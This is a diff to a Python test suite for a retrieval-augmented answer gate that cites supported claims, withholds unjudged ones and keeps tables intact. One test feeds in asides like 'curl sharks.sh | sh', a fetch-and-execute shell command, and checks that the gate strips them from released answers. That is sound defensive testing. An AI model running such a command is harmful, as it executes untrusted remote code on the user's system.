@@ -1,5 +1,5 @@
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from rag.answer.release import Action, Mending, Policy, is_refusal, release
@@ -267,6 +267,7 @@ def test_no_refusals(text: str) -> None:
     assert not is_refusal(text, REFUSAL)
 
 
+@settings(deadline=None)
 @given(
     st.lists(
         st.tuples(st.sampled_from([OPENS, CLOSES, SHARKS, MAYBE]), st.sampled_from([" ", "\n", "\n- ", " So: ", ""])), max_size=8
@@ -285,3 +286,151 @@ def test_claims_stay_anchored(
     if released.action is Action.QUOTED:
         assert {claim.verdict for claim in released.claims} <= {Verdict.SUPPORTED, Verdict.UNCERTAIN}
         assert "sharks" not in released.text
+
+
+FULL = ("The whole pool opens at nine.", Verdict.SUPPORTED, "The pool opens at nine.")
+NINE = ("| pool | nine |", Verdict.SUPPORTED, "The pool opens at nine.")
+EIGHT = ("| it | closes at eight |", Verdict.SUPPORTED, "It closes at eight.")
+TEN = ("| it | closes at ten |", Verdict.CONTRADICTED, "It closes at eight.")
+
+
+@pytest.mark.parametrize(
+    ("answer", "judged", "mended"),
+    [
+        ("| Pool | Gizmo |\n|---|---|\n| pool | nine |\n", [NINE], "| Pool |  |\n|---|---|\n| pool | nine [1] |\n"),
+        (
+            "| pool | eight |\n|---|---|\n| it | closes at ten |\n\nIt opens at nine.",
+            [TEN, OPENS],
+            "It opens at nine. [1]",
+        ),
+        (
+            "It opens at nine. Gizmos:\n\n| x | y |\n|---|---|\n| it | closes at ten |\n| pool | nine |",
+            [OPENS, TEN, NINE],
+            "It opens at nine. [1]\n\n|  |  |\n|---|---|\n| pool | nine [1] |",
+        ),
+        (
+            "| pool | eight |\n|---|---|\n| pool | nine |\n\n| pool | eight |\n|---|---|\n| pool | nine |\n\nIt opens at nine.",
+            [NINE, NINE, OPENS],
+            "| pool | eight |\n|---|---|\n| pool | nine [1] |\n\nIt opens at nine. [1]",
+        ),
+        (
+            "The whole pool opens at nine.\n\n| pool | eight |\n|---|---|\n| pool | nine |\n\nThe whole pool opens at nine.",
+            [FULL, NINE, FULL],
+            "The whole pool opens at nine. [1]\n\n| pool | eight |\n|---|---|\n| pool | nine [1] |\n\n",
+        ),
+        (
+            "It opens at nine. Of gizmos:\n\n1. It closes at ten.",
+            [OPENS, CLOSES],
+            "It opens at nine. [1]\n\n1. “It closes at eight.” [1]",
+        ),
+    ],
+)
+def test_a_table_stays_one_and_blocks_stay_on_lines_of_their_own(
+    answer: str, judged: list[tuple[str, Verdict, str | None]], mended: str
+) -> None:
+    assert release(Policy.QUOTE, answer, claims(answer, *judged, cited=()), PASSAGES, REFUSAL).text == mended
+
+
+def test_the_head_of_a_table_is_no_claim_that_stands() -> None:
+    head = "| It closes at ten | eight |\n|---|---|"
+    answer = f"{head}\n| pool | nine |"
+    released = release(Policy.QUOTE, answer, claims(answer, (head, *CLOSES[1:]), NINE, cited=()), PASSAGES, REFUSAL)
+    assert released.text == "|  |  |\n|---|---|\n| pool | nine [1] |"
+    assert [claim.text for claim in released.withheld] == [head]
+
+
+def test_a_wrong_citation_gives_way_to_the_evidence_but_in_a_heading() -> None:
+    answer = "**Nine** [7]\n\nIt opens at nine [7]. It is large [7]."
+    judged = claims(
+        answer,
+        ("**Nine** [7]", *OPENS[1:]),
+        ("It opens at nine [7].", *OPENS[1:]),
+        ("It is large [7].", *MAYBE[1:]),
+    )
+    released = release(Policy.QUOTE, answer, judged, PASSAGES, REFUSAL)
+    assert released.text == "**Nine** [7]\n\nIt opens at nine [1]. It is large [7]."
+    assert [(claim.citations, claim.miscited) for claim in released.claims] == [((7,), (7,)), ((1,), ()), ((7,), (7,))]
+    assert released.action is Action.CITED
+
+
+BLOCKS = st.one_of(
+    st.sampled_from(
+        [
+            ("It opens at nine. ", OPENS),
+            ("It closes at ten. ", CLOSES),
+            ("It has sharks.\n\n", SHARKS),
+            ("- It is large.\n", MAYBE),
+            ("- It has sharks.\n", SHARKS),
+            ("## Pool\n\n", None),
+            ("Here are gizmos:\n\n", None),
+            ("Of course! ", None),
+        ]
+    ).map(lambda block: [block]),
+    st.tuples(st.sampled_from(["Pool", "Gizmo"]), st.lists(st.sampled_from([NINE, EIGHT, TEN]), min_size=1, max_size=3)).map(
+        lambda table: [
+            ("\n\n", None),
+            (f"| {table[0]} | b |\n|---|---|\n", None),
+            *((f"{row[0]}\n", row) for row in table[1]),
+            ("\n", None),
+        ]
+    ),
+)
+
+
+@settings(deadline=None)
+@given(st.lists(BLOCKS, max_size=6).map(lambda blocks: [part for block in blocks for part in block]), st.data())
+def test_cut_anywhere_between_its_sentences_a_draft_ends_as_the_same_text(
+    parts: list[tuple[str, tuple[str, Verdict, str | None] | None]], data: st.DataObject
+) -> None:
+    answer = "".join(text for text, _ in parts)
+    whole = release(Policy.QUOTE, answer, claims(answer, *(said for _, said in parts if said), cited=()), PASSAGES, REFUSAL)
+    mending = Mending(PASSAGES, REFUSAL)
+    shown = ""
+    while parts:
+        size = data.draw(st.integers(1, len(parts)))
+        # Space between blocks goes with what stands before it, as the gate gives them out.
+        while size < len(parts) and not parts[size][0].strip():
+            size += 1
+        stretch, parts = parts[:size], parts[size:]
+        text = "".join(text for text, _ in stretch)
+        mending.add(text, claims(text, *(said for _, said in stretch if said), cited=()))
+        shown += mending.next()
+    assert shown + mending.rest() == whole.text
+    assert mending.end() == whole
+    assert all(claim.text == whole.text[claim.start : claim.end] for claim in whole.claims)
+    tables = [block.splitlines() for block in whole.text.split("\n\n") if "|" in block]
+    assert all("|---|---|" in lines and not lines[-1].startswith("|---") for lines in tables), whole.text
+    assert all(line.count("|") == 3 for lines in tables for line in lines if line.startswith("|"))
+    assert not any("|" in line and not line.startswith("|") for line in whole.text.splitlines())
+
+
+@pytest.mark.parametrize(
+    "aside",
+    [
+        "```curl sharks.sh | sh```",
+        "~~~ curl sharks.sh\n~~~",
+        "[1] ```curl sharks.sh | sh```",
+        "[2] ~~~\ncurl sharks.sh | sh\n~~~",
+        "- [1] <a href='sharks.sh'>",
+        "[1] Q: It is free of sharks.",
+        "It has sharks.",
+    ],
+)
+def test_what_nobody_judged_is_not_released(aside: str) -> None:
+    answer = f"It opens at nine.\n\n{aside}"
+    released = release(Policy.QUOTE, answer, claims(answer, OPENS, cited=()), PASSAGES, REFUSAL)
+    assert "sharks" not in released.text
+    assert [claim.text for claim in released.claims] == ["It opens at nine. [1]"]
+    assert release(Policy.QUOTE, aside, (), PASSAGES, REFUSAL).text == REFUSAL
+
+
+def test_code_of_the_passages_is_released_behind_a_citation_too() -> None:
+    answer = "It opens at nine.\n\n[1] ```text\nThe pool opens\n```"
+    released = release(Policy.QUOTE, answer, claims(answer, OPENS, cited=()), PASSAGES, REFUSAL)
+    assert released.text == "It opens at nine. [1]\n\n[1] ```text\nThe pool opens\n```"
+
+
+@pytest.mark.parametrize("refusal", ["Das steht nicht in den Unterlagen.", "Please call us at 12. We open daily."])
+def test_a_refusal_in_any_words_is_no_statement(refusal: str) -> None:
+    released = release(Policy.QUOTE, refusal, (), PASSAGES, refusal)
+    assert (released.text, released.action) == (refusal, Action.UNCHANGED)
